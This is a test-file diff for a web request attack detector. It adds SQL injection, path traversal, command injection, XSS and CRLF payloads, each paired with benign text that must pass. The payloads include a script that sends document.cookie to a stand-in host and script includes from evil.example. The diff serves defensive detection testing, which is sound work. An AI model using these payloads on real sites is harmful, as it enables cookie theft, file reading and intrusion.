@@ -275,7 +275,50 @@ const ROUND3: Record<string, ClassTable> = {
   },
 };
 
-describe.each(Object.entries({ ...CLASSES, ...ROUND3 }))("%s", (_name, table) => {
+// Round 4: shapes from third-party lists (wfuzz, sqlmap) on the tuned side, each with the prose or code that must still pass.
+const ROUND4: Record<string, Table> = {
+  "SQL (round 4)": {
+    attacks: [
+      ["' or a=a--", "sqli.tautology"],
+      [" and USER=USER", "sqli.tautology"],
+      ["1) OR NOT 5050=1691 AND (7652=1193", "sqli.tautology"],
+      ["order by 1--", "sqli.order-by-probe"],
+      ["'#mysql", "sqli.quote-terminator"],
+      ["')-- x", "sqli.quote-terminator"],
+      ["'||UTL_HTTP.REQUEST", "sqli.pipe-concat"],
+      ["1 ;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(6617),0),500000000),NULL)", "sqli.stacked-query"],
+    ],
+    benign: [
+      "i = i + 1 and j = j + 1 in the loop",
+      "x = y or y = x, both work",
+      "order by 1 or 2 stars, your choice",
+      '"#1 best seller" -- says the box',
+      'can be used for "is-a" relationships:',
+      "busy today; call us(maybe) tomorrow",
+      "we moved; call me later",
+      "Tom's||Jerry's cartoon",
+    ],
+  },
+  "LFI (round 4)": {
+    attacks: [
+      ["%c0%2e%c0%2e/%c0%2e%c0%2e/%c0%2e%c0%2e/app/config.yml", "lfi.path-traversal"],
+      ["..%c0%2f..%c0%2f..%c0%2fapp.cfg", "lfi.path-traversal"],
+      ["..../..../..../app/config.yml", "lfi.path-traversal"],
+      ["0x2e0x2e/0x2e0x2e/0x2e0x2e/app.cfg", "lfi.path-traversal"],
+    ],
+    benign: ["Loading..../ please wait", "voilà./build is the folder", "Café./menu and à/la carte", "color 0x2e0x2e0x2e and 0x2f/2"],
+  },
+  "RCE (round 4)": {
+    attacks: [
+      [";read;", "rce.command-injection"],
+      ["| ulimit -a", "rce.command-injection"],
+      ["\\n/bin/ls -al\\n", "rce.unix-binary-path"],
+    ],
+    benign: ["please read; then reply", "It's a trap; read it carefully", "The file is at C:\\net\\bin\\x and \\n is a newline"],
+  },
+};
+
+describe.each(Object.entries({ ...CLASSES, ...ROUND3, ...ROUND4 }))("%s", (_name, table) => {
   it.each(table.attacks)("blocks %j (%s) in every place", (value, ruleId) => {
     for (const where of PLACES) {
       const r = detector.inspect(request(value, where));
@@ -347,6 +390,31 @@ describe("markdown documents in user content", () => {
   });
   it("shell invocations outside the code of a document are still read", () => {
     expect(detector.inspect(request("```sh\nls\n```\nthen run bash -c id please", "json")).blocked).toBe(true);
+  });
+  it("a documented <script> include in a code block passes, a payload-shaped one does not (round 4)", () => {
+    const includes = [
+      'Load it from a CDN:\n\n```html\n<script src="https://cdn.jsdelivr.net/npm/d3-array@3"></script>\n<script>\nconst m = d3.min([1, 2]);\n</script>\n```',
+      'Or as a module:\n\n```html\n<script type="module">\nimport {rgb} from "https://cdn.skypack.dev/d3-color@3";\nconst c = rgb("steelblue");\n</script>\n```',
+    ];
+    for (const doc of includes) expect(detector.inspect(request(doc, "json")).blocked, doc).toBe(false);
+    const payloads: Array<[string, string]> = [
+      ["see:\n```html\n<script>alert(document.cookie)</script>\n```", "xss.script-tag"],
+      ["see:\n```\n<script src=//evil.example/x.js></script>\n```", "xss.script-tag"],
+      ["see:\n```\n<script src=http://198.51.100.7/x.js></script>\n```", "xss.script-tag"],
+      ['see:\n```\n<script src="https://cdn.example/a.js"></script>\n<script>new Image().src="//x.example/?"+document.cookie</script>\n```', "xss.script-tag"],
+      ["```\nx\n```\nand <script src=https://evil.example/y.js></script> in the prose", "xss.script-tag"],
+    ];
+    for (const [doc, id] of payloads)
+      expect(
+        detector.inspect(request(doc, "json")).matches.map((m) => m.ruleId),
+        doc,
+      ).toContain(id);
+  });
+  it("a header-like line in a document's code is quoted code; in its prose it is still CRLF injection (round 4)", () => {
+    const code = "My options:\n\n```js\nconst options = {\n  proxy: {\n    host: '159.203.75.200',\n    port: 1080\n  }\n}\n```\n\nAny idea?";
+    expect(detector.inspect(request(code, "multipart")).blocked).toBe(false);
+    const prose = "see\n```\nx\n```\r\nSet-Cookie: session=attacker";
+    expect(detector.inspect(request(prose, "multipart")).matches.map((m) => m.ruleId)).toContain("protocol.crlf-injection");
   });
   it("a lone backtick or an unclosed fence is not a document", () => {
     expect(documentProse("x`id`")).toBeNull();
